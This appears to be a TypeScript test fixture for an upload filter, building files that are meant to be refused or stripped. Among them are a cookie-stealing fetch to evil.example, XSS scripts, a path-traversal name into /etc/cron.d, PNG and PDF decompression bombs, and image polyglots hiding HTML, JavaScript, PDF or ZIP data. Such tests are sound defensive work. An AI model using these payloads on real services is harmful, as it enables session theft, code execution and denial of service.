import { once } from 'node:events'
import { buffer } from 'node:stream/consumers'
import { crc32, createDeflate } from 'node:zlib'
import { aPicture } from '../../harness/pictures.ts'

export const script = '<script>alert(document.cookie)</script>'
const page = `<!DOCTYPE html><html><body>${script}</body></html>`

const megabyte = 1024 ** 2

/** So many bytes of nothing, packed as small as they get. */
export const packedZeros = async (bytes: number): Promise<Buffer> => {
  const deflate = createDeflate({ level: 9 })
  const packed = buffer(deflate)
  const zeros = Buffer.alloc(megabyte)
  for (let left = bytes; left > 0; left -= megabyte)
    if (!deflate.write(zeros.subarray(0, Math.min(left, megabyte)))) await once(deflate, 'drain')
  deflate.end()
  return packed
}

const chunkOf = (type: string, content: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type), content])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(content.length)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}

/** Signature and header chunk. */
const pngHead = 33

const withChunk = (png: Buffer, chunk: Buffer): Buffer =>
  Buffer.concat([png.subarray(0, pngHead), chunk, png.subarray(pngHead)])

/** A drawing of one bit for each point, all of them white: a megabyte that is four gigabytes once it is open. */
const bombPng = async (): Promise<Buffer> => {
  const side = 60_000
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([1, 0, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunkOf('IHDR', header),
    chunkOf('IDAT', await packedZeros((side / 8 + 1) * side)),
    chunkOf('IEND', Buffer.alloc(0)),
  ])
}

const pdfWith = (filter: string, stream: Buffer, more = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${more} >>\nendobj\n`),
    Buffer.from(`2 0 obj\n<< /Length ${stream.length} /Filter ${filter} >>\nstream\n`),
    stream,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  ])

/** An archive with nothing in it: a reader of archives needs no more than its end. */
const emptyZip = Buffer.from('504b0506000000000000000000000000000000000000', 'hex')

const segmentOf = (marker: number, content: Buffer): Buffer => {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([head, content])
}

const withSegment = (jpeg: Buffer, marker: number, content: string): Buffer =>
  Buffer.concat([jpeg.subarray(0, 2), segmentOf(marker, Buffer.from(content, 'latin1')), jpeg.subarray(2)])

export type HostileFile = { title: string; name: string; content: Buffer }

/** What is no picture and no document at all, or would exhaust whoever opens it: nobody takes these. */
export const refusedFiles = async (): Promise<HostileFile[]> => {
  const packed = await packedZeros(300 * megabyte)
  const of = (title: string, name: string, content: Buffer | string): HostileFile => ({
    title,
    name,
    content: Buffer.from(content as string),
  })
  const spaced = await packedZeros(megabyte)
  return [
    of('a script called a picture', '花.png', 'fetch("//evil.example/" + document.cookie)'),
    of('a page called a picture', '花.jpg', page),
    of('a drawing with a script', '花.svg', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
    of(
      'a drawing with a script called a picture',
      '花.png',
      `<?xml version="1.0"?><svg onload="alert(1)">${script}</svg>`,
    ),
    of('a script with a path for a name', '../../../../etc/cron.d/花.png', '* * * * * root id'),
    of('nothing', '花.png', ''),
    of('a picture of four gigabytes', '花.png', await bombPng()),
    of('a picture that is cut off', '花.png', (await aPicture('png', 400, 300)).subarray(0, 60)),
    of('a document that swells', '合同.pdf', pdfWith('/FlateDecode', packed)),
    of('a document packed twice', '合同.pdf', pdfWith('[/FlateDecode /FlateDecode]', spaced)),
    of(
      'a document that swells behind letters',
      '合同.pdf',
      pdfWith('[/ASCIIHexDecode /FlateDecode]', Buffer.from(`${packed.toString('hex')}>`)),
    ),
    of(
      'a document with a script',
      '合同.pdf',
      pdfWith('/FlateDecode', spaced, '/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>'),
    ),
    of(
      'a document that is a page too',
      '合同.pdf',
      Buffer.concat([Buffer.from(`%PDF-1.7\n${page}\n`), pdfWith('/FlateDecode', spaced)]),
    ),
    of('a document that is an archive too', '合同.pdf', Buffer.concat([pdfWith('/FlateDecode', spaced), emptyZip])),
  ]
}

/** Pictures that are something else besides. Whoever keeps one keeps the picture and nothing else. */
export const polyglots = async (): Promise<HostileFile[]> => {
  const [png, jpeg, gif, webp] = await Promise.all(
    (['png', 'jpeg', 'gif', 'webp'] as const).map((format) => aPicture(format, 120, 90)),
  )
  if (!png || !jpeg || !gif || !webp) throw new Error('four pictures were asked for')
  const bomb = Buffer.concat([Buffer.from('Comment\0\0'), await packedZeros(300 * megabyte)])
  const remark = `*/=alert(document.cookie)/*`
  return [
    { title: 'a PNG with a page behind it', name: '花.png', content: Buffer.concat([png, Buffer.from(page)]) },
    {
      title: 'a PNG with a page inside',
      name: '花.html',
      content: withChunk(png, chunkOf('tEXt', Buffer.from(`Comment\0${page}`))),
    },
    { title: 'a PNG with words that swell', name: '花.png', content: withChunk(png, chunkOf('zTXt', bomb)) },
    { title: 'a JPEG with a page as its comment', name: '花.jpg', content: withSegment(jpeg, 0xfe, page) },
    {
      title: 'a JPEG with a script in what a camera notes',
      name: '花.jpg',
      content: withSegment(jpeg, 0xe1, `Exif\0\0${script}`),
    },
    {
      title: 'a JPEG that is a document too',
      name: '花.pdf',
      content: Buffer.concat([withSegment(jpeg, 0xfe, '%PDF-1.4\n1 0 obj'), Buffer.from('%%EOF')]),
    },
    {
      title: 'a GIF that is a script too',
      name: '花.js',
      content: Buffer.concat([
        gif.subarray(0, -1),
        Buffer.from([0x21, 0xfe, remark.length]),
        Buffer.from(remark),
        Buffer.from([0, 0x3b]),
      ]),
    },
    { title: 'a GIF that is an archive too', name: '花.jar', content: Buffer.concat([gif, emptyZip]) },
    { title: 'a WEBP with a page behind it', name: '花.webp', content: Buffer.concat([webp, Buffer.from(page)]) },
  ]
}

/** What is left of the other thing, if anything. */
export const leftOf = (content: Buffer): string[] =>
  [script, 'alert(', '<html', '%PDF', 'PK\u0005\u0006', 'Exif'].filter((words) => content.includes(words))
